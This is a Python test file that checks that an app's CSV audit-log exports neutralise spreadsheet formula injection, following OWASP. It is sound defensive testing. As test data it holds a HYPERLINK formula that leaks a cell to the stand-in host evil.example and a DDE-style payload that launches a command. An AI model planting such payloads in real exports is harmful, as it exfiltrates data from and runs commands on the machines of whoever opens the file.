"""CSV exports open in spreadsheet software as data: no cell starts a formula (OWASP)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from planner.spreadsheet.safe_csv import neutralise
from tests.web.conftest import make_app, signed_in, text_of

AUDITOR = "auditor@test.example"
FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'


def test_the_log_export_neutralises_cells_that_would_be_formulas(tmp_path: Path) -> None:
    app, planner = make_app(tmp_path)
    try:
        planner.app.open_account(actor="test:setup", email=AUDITOR, name="Anna Auditor",
                                 role="auditor", password_hash="not-a-real-hash")
        profile = planner.app.register_profile(actor="test:setup", name=FORMULA_NAME,
                                               kind="company", country="+49 Germany")
        planner.app.change_profile(profile, actor="test:setup", name="@SUM(1+1)*cmd|' /C calc'!A0",
                                   kind="company", country="Germany", reason="-2+3 fixed")
        response = signed_in(app, "auditor").get("/audit/log.csv?kind=company profile")
        assert response.status_code == 200
        raw = text_of(response)
        rows = [r for r in csv.DictReader(io.StringIO(raw)) if r["record_id"] == str(profile)]
        labels = {r["record_label"] for r in rows}
        assert labels <= {"'" + FORMULA_NAME, "'@SUM(1+1)*cmd|' /C calc'!A0"} and labels
        assert "'-2+3 fixed" in {r["reason"] for r in rows}
        assert '"\'-2+3 fixed"' in raw, "a neutralised cell is also quoted"
        for row in csv.reader(io.StringIO(raw)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    finally:
        planner.close()


def test_each_formula_start_is_neutralised_and_plain_text_is_kept() -> None:
    for dangerous in ("=1+1", "+1", "-1", "@A1", "\tcmd", "\r=1", "  =1"):
        assert neutralise(dangerous) == "'" + dangerous
    for plain in ("Körner", "南京", "1-2", "a=b", "", "'quoted"):
        assert neutralise(plain) == plain
    assert neutralise(-3) == -3, "numbers written as numbers are not user text"
